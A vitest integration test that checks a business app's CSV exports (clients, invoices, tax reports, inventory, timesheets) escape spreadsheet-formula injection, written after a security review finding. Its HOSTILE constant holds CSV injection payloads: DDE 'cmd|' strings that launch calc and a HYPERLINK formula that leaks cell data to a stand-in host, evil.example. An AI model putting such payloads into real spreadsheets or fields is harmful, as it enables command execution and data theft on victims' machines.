import { readdirSync, readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { listenTestApp, type ListeningTestApp } from '../support/app.ts';
import { expectJson, TestClient } from '../support/http-client.ts';
import { DEMO } from '../support/demo-users.ts';
import type { ClientView } from '../../src/contracts/clients.ts';
import type { InvoiceDto } from '../../src/contracts/invoices.ts';
import { aClientInput } from '../unit/clients/client-factories.ts';

/**
 * Spreadsheet-formula injection (security review, finding 1): text a customer or an employee
 * typed reaches an accountant's spreadsheet through every CSV export. Each export is fed the
 * same hostile names and must write every text cell that starts with = + - @ tab or CR with a
 * leading apostrophe; only numbers the product computed stay bare. A CSV route added without a
 * row here fails the first test.
 */
const HOSTILE = {
  // The review's name: a leading '-' and a digit slipped past the tax report's old escaper.
  dash: "-1+1+cmd|' /C calc'!A0",
  equals: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  plus: "+1+cmd|' /C calc'!A0",
  at: '@SUM(1+9)*cmd|\' /C calc\'!A0',
};

const FORMULA_START = /^[=+\-@\t\r]/;
/** A bare number the product computed (amounts, hours, counts): not text, nothing to escape. */
const NUMBER = /^-?\d+(\.\d+)?$/;

/** Every cell of every row of a CSV body (the tax report has two tables separated by a blank line). */
const cells = (csv: string): string[] => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.flat();

/** Cells a spreadsheet would run as a formula: the test's whole point. */
const unsafeCells = (csv: string): string[] => cells(csv).filter((c) => FORMULA_START.test(c) && !NUMBER.test(c));

describe('CSV exports: one escaping rule for every export', () => {
  let t: ListeningTestApp;
  let admin: TestClient;
  let client: ClientView;
  beforeAll(async () => {
    t = await listenTestApp();
    admin = await TestClient.signedIn(t.url, DEMO.admin);
    // A quote request's name becomes a client name: the review's path into the accountant's CSV.
    client = await expectJson<ClientView>(
      await admin.send('POST', '/api/clients', aClientInput({ name: HOSTILE.dash, notes: HOSTILE.equals, tags: ['vip'], contacts: [{ name: HOSTILE.plus, role: HOSTILE.at, emails: ['dash@example.com'], phones: [] }] })),
      201,
    );
    const invoice = await expectJson<InvoiceDto>(
      await admin.send('POST', '/api/invoices', { clientId: client.id, terms: 'net30', issueDate: '2026-10-05', lines: [{ description: HOSTILE.equals, quantity: 1, unitPriceCents: 10_000, taxRateBp: 1000 }] }),
      201,
    );
    expect((await admin.send('POST', `/api/invoices/${invoice.id}/send`, {})).status).toBe(200);
    await expectJson(await admin.send('POST', '/api/inventory/items', { sku: 'CSV-1', name: HOSTILE.equals, category: 'sensor', supplier: HOSTILE.at, unitCostCents: 1000, unitPriceCents: 2500, reorderPoint: 2, reorderQuantity: 5 }), 201);
    const at = (hhmm: string) => new Date(`2026-03-03T${hhmm}:00-06:00`).toISOString();
    await expectJson(await admin.send('POST', '/api/time/timesheets/emp-maria/entries', { clockIn: at('08:00'), clockOut: at('12:00'), reason: 'Paper timesheet', note: HOSTILE.plus }), 201);
  });
  afterAll(() => t.close());

  /** Every CSV the API serves, the hostile text each must carry (escaped), and its URL. */
  const EXPORTS: Record<string, { url: string; carries: string[] }> = {
    'GET /api/clients/export.csv': { url: '/api/clients/export.csv', carries: [HOSTILE.dash, HOSTILE.equals, HOSTILE.plus, HOSTILE.at] },
    'GET /api/clients/import/template.csv': { url: '/api/clients/import/template.csv', carries: [] },
    'GET /api/tax-reports/export.csv': { url: '/api/tax-reports/export.csv?basis=accrual&period=month&value=2026-10', carries: [HOSTILE.dash] },
    'GET /api/inventory/export.csv': { url: '/api/inventory/export.csv', carries: [HOSTILE.equals, HOSTILE.at] },
    'GET /api/time/export.csv': { url: '/api/time/export.csv?from=2026-03-02&to=2026-03-08', carries: [HOSTILE.plus] },
    'GET /api/time/export.csv?kind=summary': { url: '/api/time/export.csv?from=2026-03-02&to=2026-03-08&kind=summary', carries: [] },
  };

  it('covers every CSV route the server registers (a new export must be added here)', () => {
    const csvRoutes = t.app.apiRoutes.filter((r) => r.url.endsWith('.csv')).map((r) => `${r.method} ${r.url}`);
    expect(csvRoutes.sort()).toEqual([...new Set(Object.keys(EXPORTS).map((k) => k.replace(/\?.*$/, '')))].sort());
    // A CSV answer from a route not named *.csv would escape the check above.
    const routeFiles = readdirSync('src/http/routes').filter((f) => readFileSync(`src/http/routes/${f}`, 'utf8').includes('text/csv'));
    expect(routeFiles.sort()).toEqual(['clients.ts', 'inventory.ts', 'tax-reports.ts', 'time.ts']);
  });

  for (const [route, { url, carries }] of Object.entries(EXPORTS)) {
    it(`${route}: every text cell starting with = + - @ tab or CR is written with a leading apostrophe`, async () => {
      const res = await admin.get(url);
      expect(res.status, await res.clone().text()).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      const csv = await res.text();
      expect(unsafeCells(csv)).toEqual([]);
      // The hostile text is there, escaped, not dropped: the check above cannot pass on an empty file.
      for (const text of carries) expect(cells(csv)).toContain(`'${text}`);
    });
  }
});
